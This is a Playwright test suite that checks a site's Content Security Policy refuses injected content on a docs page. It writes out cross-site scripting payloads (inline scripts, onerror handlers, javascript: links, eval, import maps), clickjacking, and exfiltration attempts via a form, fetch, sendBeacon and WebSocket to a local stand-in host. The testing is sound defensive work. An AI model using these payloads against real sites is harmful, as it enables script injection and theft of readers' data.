import { createServer } from 'node:http';
import { expect, type Page } from '@playwright/test';
import { serveOnFreePort } from '../../tools/site-server/on-free-port';
import { browserFaults, type Reader } from './support/browser-faults';
import { clientFiles } from './support/client-files';
import { replace } from './support/failures';
import type { Fault } from './support/fault';
import { expectSound } from './support/survival';

const PAGE = '/docs/delfin';

declare global {
  interface Window {
    /** What an attack leaves when it runs. */
    injected?: boolean;
    /** Directives that refused something, in the order of what they refused. */
    refused?: string[];
  }
}

/** Another host, as that of somebody who has put something into a page. */
interface Foreign {
  url: string;
  asked: string[];
}

interface Attack {
  /** What somebody put there. */
  what: string;
  /** Directives of the policy, one of which refuses it. */
  refusedBy: RegExp;
  fast?: boolean;
  /** HTML in the page as it is sent; `host` is an address of somebody else's. */
  sent?: (host: string) => string;
  /** Text at the end of a script of the site as it is sent. */
  inScript?: string;
  /** What a script does on the living page. An arrow function: a browser is given its source. */
  added?: (host: string) => void;
  /** What the reader does then. */
  act?: (page: Page) => Promise<void>;
}

/** Notes what the policy refuses, before anything of the page is read. */
async function noteRefusals(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const refused: string[] = [];
    window.refused = refused;
    addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
  });
}

/** What the policy has refused, in the page and in the frames of it. */
async function refusals(page: Page): Promise<string> {
  const own = page.frames().map((frame) => frame.evaluate(() => window.refused?.join(' ')));
  return (await Promise.all(own)).join(' ');
}

/** Nothing ran, nothing was hidden, and nobody else was asked for anything. */
async function expectUnharmed(page: Page, foreign: Foreign): Promise<void> {
  await expectSound(page);
  expect(await page.evaluate(() => window.injected), 'it ran').toBeUndefined();
  expect(foreign.asked, 'what another host was asked for').toEqual([]);
  expect(new URL(page.url()).pathname, 'the page was left').toBe(PAGE);
  await expect(page).toHaveTitle(/Delfín/);
}

async function withForeign<Result>(act: (foreign: Foreign) => Promise<Result>): Promise<Result> {
  const asked: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    asked.push(url);
    const type = url.endsWith('.css') ? 'text/css' : 'text/javascript';
    const body = url.endsWith('.css') ? 'body{display:none}' : 'window.injected=true';
    response.writeHead(200, { 'Content-Type': type, 'Access-Control-Allow-Origin': '*' }).end(body);
  });
  const { url, close } = await serveOnFreePort(server);
  try {
    return await act({ url, asked });
  } finally {
    await close();
  }
}

function attackFault({ what, refusedBy, fast, sent, inScript, added, act }: Attack): Fault<Reader> {
  return {
    fault: what,
    expected: 'the policy refuses it: nothing of it runs, nobody else is asked, the page is sound',
    fast,
    run: ({ host, open }) =>
      withForeign(async (foreign) => {
        if (sent) {
          // Beside what the client draws, which it would put right when it comes.
          const html = (own: Buffer) =>
            Buffer.from(String(own).replace(/<body[^>]*>/, (body) => body + sent(foreign.url)));
          host.fail(/^\/docs\/delfin$/, replace(html));
        }
        if (inScript) {
          const script = (own: Buffer) => Buffer.concat([own, Buffer.from(`\n${inScript}`)]);
          host.fail(clientFiles['the boot script'], replace(script));
        }
        const page = await open();
        await noteRefusals(page);
        await page.goto(PAGE);
        if (added) {
          await page.keyboard.press('Shift');
          await page.locator('html[data-has-hydrated="true"]').waitFor({ state: 'attached' });
          await page.evaluate(added, foreign.url);
        }
        await act?.(page);
        const all = () => refusals(page);
        await expect.poll(all, { message: 'nothing was refused' }).toMatch(refusedBy);
        await expectUnharmed(page, foreign);
        const [directive] = refusedBy.exec(await all()) ?? [];
        return `refused by ${directive}; the page as it was`;
      }),
  };
}

const RUN = 'window.injected=true';

const scripts: readonly Attack[] = [
  {
    what: 'an inline script stands in the page as it is sent',
    refusedBy: /script-src-elem/,
    fast: true,
    sent: () => `<script>${RUN}</script>`,
  },
  {
    what: 'a module stands in the page as it is sent',
    refusedBy: /script-src-elem/,
    sent: () => `<script type=module>${RUN}</script>`,
  },
  {
    what: 'an inline script is added to a living page',
    refusedBy: /script-src-elem/,
    added: () => {
      const script = document.createElement('script');
      script.text = 'window.injected=true';
      document.body.append(script);
    },
  },
  {
    what: 'a picture with a handler stands in the page as it is sent',
    refusedBy: /script-src-attr/,
    sent: () => `<img alt="" src="/no-existe.png" onerror="${RUN}">`,
  },
  {
    what: 'a heading with a handler is added to a living page; the reader clicks it',
    refusedBy: /script-src-attr/,
    added: () => {
      document
        .querySelector('main')
        ?.insertAdjacentHTML('afterbegin', '<h2 onclick="window.injected=true">Premio</h2>');
    },
    act: (page) => page.getByRole('heading', { name: 'Premio' }).click(),
  },
  {
    what: 'a link to a script, javascript:, stands in the page as it is sent; the reader clicks it',
    refusedBy: /script-src-elem/,
    fast: true,
    sent: () => `<p><a href="javascript:${RUN};void 0">Descargar</a></p>`,
    act: (page) => page.getByRole('link', { name: 'Descargar' }).click(),
  },
  {
    what: 'a script of another host stands in the page as it is sent',
    refusedBy: /script-src-elem/,
    sent: (host) => `<script src="${host}/a.js"></script>`,
  },
  {
    what: 'a script of another host is added to a living page',
    refusedBy: /script-src-elem/,
    added: (host) => {
      document.head.append(
        Object.assign(document.createElement('script'), { src: `${host}/a.js` }),
      );
    },
  },
  {
    what: 'a script whose address holds its text, data:, stands in the page as it is sent',
    refusedBy: /script-src-elem/,
    sent: () => `<script src="data:text/javascript,${RUN}"></script>`,
  },
  {
    what: 'a map of modules stands in the page as it is sent',
    refusedBy: /script-src-elem/,
    sent: (host) =>
      `<script type=importmap>{"imports":{"a":"${host}/a.js"}}</script><script type=module>import "a"</script>`,
  },
  {
    what: 'a script of the site calls eval',
    refusedBy: /script-src/,
    inScript: 'try{eval("window.injected=true")}catch{}',
  },
  {
    what: 'a script of the site makes a function of a text',
    refusedBy: /script-src/,
    inScript: 'try{new Function("window.injected=true")()}catch{}',
  },
  {
    what: 'a script of the site has a text run by a timer',
    refusedBy: /script-src/,
    inScript: 'setTimeout("window.injected=true")',
  },
  {
    what: 'a worker is made of a text on a living page',
    refusedBy: /worker-src/,
    added: (host) => {
      const text = new Blob([`fetch('${host}/a')`], { type: 'text/javascript' });
      new Worker(URL.createObjectURL(text));
    },
  },
];

const others: readonly Attack[] = [
  {
    what: 'rules of style that hide the page stand in it as it is sent',
    refusedBy: /style-src-elem/,
    fast: true,
    sent: () => '<style>body{display:none}</style>',
  },
  {
    what: 'rules of style that hide the page are added to a living page',
    refusedBy: /style-src-elem/,
    added: () => {
      document.head.append(
        Object.assign(document.createElement('style'), { textContent: 'body{display:none}' }),
      );
    },
  },
  {
    what: 'an attribute of style that covers the page stands in it as it is sent',
    refusedBy: /style-src-attr/,
    sent: () => '<div style="position:fixed;inset:0;background:red">Premio</div>',
  },
  {
    what: 'a stylesheet of another host stands in the page as it is sent',
    refusedBy: /style-src-elem/,
    sent: (host) => `<link rel=stylesheet href="${host}/a.css">`,
  },
  {
    what: 'a picture of another host, which counts readers, stands in the page as it is sent',
    refusedBy: /img-src/,
    sent: (host) => `<img alt="" src="${host}/a.png">`,
  },
  {
    what: 'a film of another host stands in the page as it is sent',
    refusedBy: /media-src/,
    sent: (host) => `<video src="${host}/a.mp4" autoplay></video>`,
  },
  {
    what: 'a type of another host is added to a living page',
    refusedBy: /font-src/,
    added: (host) => {
      void new FontFace('ajena', `url(${host}/a.woff2)`).load().catch(() => {});
    },
  },
  {
    what: 'a frame of another host stands in the page as it is sent',
    refusedBy: /frame-src/,
    fast: true,
    sent: (host) => `<iframe title="Premio" src="${host}/a"></iframe>`,
  },
  {
    what: 'a frame that holds its own page, with a script, stands in the page as it is sent',
    refusedBy: /script-src-elem/,
    sent: () => '<iframe title="Premio" srcdoc="<script>parent.injected=true</script>"></iframe>',
  },
  {
    what: 'an object of another host stands in the page as it is sent',
    refusedBy: /object-src/,
    sent: (host) => `<object data="${host}/a" type="image/svg+xml"></object>`,
  },
  {
    what: 'an address of another host as base stands in the page as it is sent',
    refusedBy: /base-uri/,
    sent: (host) => `<base href="${host}/">`,
  },
  {
    what: 'a form that sends to another host stands in the page as it is sent; the reader sends it',
    refusedBy: /form-action/,
    fast: true,
    // For a tab of its own: in this one Playwright would wait for a page that never comes.
    sent: (host) =>
      `<form action="${host}/a" target=_blank><label>Clave <input name=clave></label><button>Entrar</button></form>`,
    async act(page) {
      await page.getByLabel('Clave').fill('1234');
      await page.getByRole('button', { name: 'Entrar' }).click();
    },
  },
  {
    what: 'a living page asks another host for something',
    refusedBy: /connect-src/,
    added: (host) => {
      void fetch(`${host}/a`).catch(() => {});
    },
  },
  {
    what: 'a living page sends to another host without waiting for an answer',
    refusedBy: /connect-src/,
    added: (host) => {
      navigator.sendBeacon(`${host}/a`, 'clave');
    },
  },
  {
    what: 'a living page opens a lasting connection to another host',
    refusedBy: /connect-src/,
    added: (host) => {
      try {
        new WebSocket(host.replace('http', 'ws'));
      } catch {
        // Some browsers throw, others fail later.
      }
    },
  },
  {
    what: 'a laxer policy and an inline script are added to a living page',
    refusedBy: /script-src-elem/,
    added: () => {
      const policy = document.createElement('meta');
      policy.httpEquiv = 'Content-Security-Policy';
      policy.content = "script-src * 'unsafe-inline' 'unsafe-eval'";
      const script = document.createElement('script');
      script.text = 'window.injected=true';
      document.head.append(policy, script);
    },
  },
];

/** A page of somebody else that shows one of ours within it. */
const framed: Fault<Reader> = {
  fault: 'another host shows a page of the site in a frame, to catch clicks',
  expected: 'the frame stays empty of it',
  fast: true,
  async run({ host, open }) {
    const around = await serveOnFreePort(
      createServer((_, response) => {
        response.writeHead(200, { 'Content-Type': 'text/html' });
        response.end(`<!doctype html><iframe src="${host.url}${PAGE}"></iframe>`);
      }),
    );
    try {
      const page = await open();
      await page.goto(around.url);
      await expect.poll(() => host.asked(/^\/docs\/delfin$/)).toBeGreaterThan(0);
      await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/);
      return 'the browser shows its own word in the frame';
    } finally {
      await around.close();
    }
  },
};

/** A script of the page that was changed on its way is not the one that the policy names. */
const changed: Fault<Reader> = {
  fault: 'the inline script of the theme was changed on its way',
  expected: 'it does not run; the page is sound and its links lead on',
  async run({ host, open }) {
    const html = (own: Buffer) =>
      Buffer.from(
        String(own).replace(
          /<script(\s[^>]*)?>(?=[^<]*data-theme)/,
          (tag) => `${tag}window.injected=true;`,
        ),
      );
    host.fail(/^\/docs\/delfin$/, replace(html));
    const page = await open();
    await noteRefusals(page);
    await page.goto(PAGE);
    expect(await refusals(page), 'nothing was refused').toMatch(/script-src-elem/);
    expect(await page.evaluate(() => window.injected), 'it ran').toBeUndefined();
    await expectSound(page);
    return 'refused by script-src-elem; the page was read';
  },
};

browserFaults('What the content policy refuses', [
  ...[...scripts, ...others].map(attackFault),
  framed,
  changed,
]);
